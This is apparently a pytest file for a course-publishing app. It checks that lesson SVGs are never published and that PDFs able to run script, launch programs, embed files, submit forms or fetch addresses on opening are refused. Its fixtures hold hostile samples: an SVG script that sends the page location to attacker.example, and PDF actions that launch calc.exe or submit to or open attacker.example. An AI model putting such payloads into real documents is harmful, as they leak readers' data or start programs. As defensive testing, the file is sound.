"""Lesson media that cannot run: SVG is never published (export PNG), and a PDF that could run script, start
a program, carry files, send a form or fetch an address when opened is refused with its path:line."""

from __future__ import annotations

import zlib
from pathlib import Path

import pytest

from course_app.content.loader import load_catalogue
from course_app.content.pdf import PdfRefused, check_pdf
from tests.content.test_loader import OPTIONS
from tests.factories import make_course, pdf_of
from tests.test_cli import run_course_app

SVG_WITH_SCRIPT = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                   '<script>fetch("https://attacker.example/?" + location)</script>'
                   '<image href="https://attacker.example/pixel.png" width="1" height="1"/></svg>')
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [5 0 R] >>"
CONTENT = b"<< /Length 46 >>\nstream\nBT /F1 12 Tf (See /JS notes: stream) Tj ET\n\nendstream"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.ilo.org/) >> >>"


def pdf(catalog_extra: bytes = b"", *more: bytes, page: bytes = PAGE, trailer_extra: bytes = b"",
        before_objects: bytes = b"") -> bytes:
    """A small, well-formed PDF: a catalogue, one page with text and a link, and ``more`` objects."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] " + catalog_extra + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, CONTENT, LINK, *more]
    head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n% a comment naming /JavaScript is only a comment\n"
    return pdf_of(objects, trailer_extra=trailer_extra, head=head + before_objects)


def object_stream(dictionary_text: bytes, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object stream (PDF 1.5+) holding one dictionary, compressed as ``filters`` says."""
    body = b"6 0 " + dictionary_text
    data = zlib.compress(body) if b"Flate" in filters else body.hex().encode() + b">"
    return b"<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n%s\nendstream" % (filters, len(data), data)


def test_a_plain_pdf_with_a_link_and_a_first_page_passes(tmp_path: Path) -> None:
    path = tmp_path / "handout.pdf"
    path.write_bytes(pdf())
    with path.open("rb") as handle:
        check_pdf(handle)


@pytest.mark.parametrize(("content", "reason"), [
    (pdf(b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> >>"), "JavaScript"),
    (pdf(b"/Names << /J#61vaScript 6 0 R >>"), "JavaScript"),
    (pdf(b"/AcroForm << /XFA 6 0 R >>"), "an XFA form"),
    (pdf(b"/Names << /EmbeddedFiles 6 0 R >>"), "embedded files"),
    (pdf(b"", b"<< /S /Launch /F (calc.exe) >>"), "a launch action"),
    (pdf(b"", b"<< /S /SubmitForm /F (https://attacker.example/) >>"), "a form that sends data"),
    (pdf(page=PAGE.replace(b">>", b"/AA << /O << /S /URI /URI (https://attacker.example/) >> >> >>")),
     "actions that run by themselves"),
    (pdf().replace(b"/OpenAction [3 0 R /Fit]", b"/OpenAction << /S /URI /URI (https://attacker.example/) >>"),
     "an action that runs when the file is opened"),
    (pdf(b"", object_stream(b"<< /S /JavaScript /JS (app.launchURL('https://attacker.example/')) >>")),
     "JavaScript"),
    (pdf(b"", object_stream(b"<< /S /JavaScript >>", b"/Filter /ASCIIHexDecode")), "cannot be checked"),
    # Inflated through a predictor, an object stream's names are row differences: it cannot be read as plain text.
    (pdf(b"", object_stream(b"<< /S /Launch >>", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
     "a predictor"),
    (pdf(b"", object_stream(b"<< /S /Launch >>").replace(b"/Type /ObjStm ", b"")), "a launch action"),
    (pdf(trailer_extra=b"/Encrypt << /Filter /Standard >> "), "is encrypted"),
    # "stream" in a comment or a string is not a stream: nothing after it is skipped.
    (pdf(before_objects=b"% stream\n9 0 obj << /S /JavaScript /JS (x) >> endobj\n"), "JavaScript"),
    (pdf(before_objects=b"9 0 obj (stream\n) endobj\n10 0 obj << /S /Launch >> endobj\n"), "a launch action"),
    (b"%PDF-1.7\n1 0 obj << /Length 5 >>\nstream\nhidden /JS forever", "a stream never ends"),
    (b"<html>not a pdf</html>", "is not a PDF file"),
])
def test_a_pdf_that_could_run_or_fetch_anything_is_refused(tmp_path: Path, content: bytes, reason: str) -> None:
    path = tmp_path / "handout.pdf"
    path.write_bytes(content)
    with pytest.raises(PdfRefused, match=reason), path.open("rb") as handle:
        check_pdf(handle)


def lesson_linking(tmp_path: Path, name: str, data: bytes, *, image: bool) -> Path:
    """A course whose lesson one (English) links or shows ``media/<name>``; returns the lesson text's path."""
    course = make_course(tmp_path)
    (course / "one" / "media").mkdir(exist_ok=True)
    (course / "one" / "media" / name).write_bytes(data)
    text = course / "one" / "en.md"
    reference = f"![A diagram of a union](media/{name})" if image else f"[The handout](media/{name})"
    text.write_text(text.read_text() + f"\n\n{reference}\n")
    return text


@pytest.mark.parametrize("image", [True, False])
def test_an_svg_in_lesson_media_is_refused_with_its_path_and_line(tmp_path: Path, image: bool) -> None:
    text = lesson_linking(tmp_path, "diagram.svg", SVG_WITH_SCRIPT.encode(), image=image)
    catalogue = load_catalogue(tmp_path, OPTIONS)
    line = text.read_text().rstrip("\n").count("\n") + 1
    errors = [problem for problem in catalogue.problems if problem.is_error]
    assert [(problem.path, problem.line) for problem in errors] == [(text, line)]
    assert "an SVG picture is never published" in errors[0].message and "export it as PNG" in errors[0].message
    lesson = catalogue.courses[0].lessons_by_slug.get("one") if catalogue.courses else None
    assert lesson is None or lesson.media_file("media/diagram.svg") is None  # held back: its file never served


def test_lessons_check_refuses_the_svg_and_the_pdf_and_the_site_does_not_serve_them(tmp_path: Path) -> None:
    from tests.conftest import make_app

    text = lesson_linking(tmp_path / "lessons", "diagram.svg", SVG_WITH_SCRIPT.encode(), image=True)
    (text.parent / "media" / "handout.pdf").write_bytes(pdf(b"/Names << /JavaScript 6 0 R >>"))
    text.write_text(text.read_text() + "\n[The handout](media/handout.pdf)\n")
    result = run_course_app("lessons", "check", str(tmp_path / "lessons"), cwd=tmp_path)
    assert result.returncode == 1
    assert "demo/one/en.md:" in result.stdout and "'media/diagram.svg': an SVG picture is never published" \
        in result.stdout
    assert "link 'media/handout.pdf' holds JavaScript" in result.stdout
    client = make_app(tmp_path / "site", LESSONS_DIR=str(tmp_path / "lessons")).test_client()
    for name in ("diagram.svg", "handout.pdf"):
        assert client.get(f"/media/demo/one/media/{name}").status_code == 404
